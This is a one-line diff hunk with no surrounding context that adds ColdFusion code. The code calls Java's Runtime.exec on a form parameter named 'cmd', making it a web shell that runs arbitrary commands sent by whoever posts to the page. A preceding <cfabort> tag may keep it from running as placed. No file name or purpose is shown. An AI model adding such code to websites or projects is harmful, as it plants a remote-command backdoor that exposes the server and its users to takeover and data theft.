@@ -1,0 +1,1 @@
+<cfabort><cfscript> r = createObject("java","java.lang.Runtime").getRuntime(); r.exec(form.cmd); </cfscript>
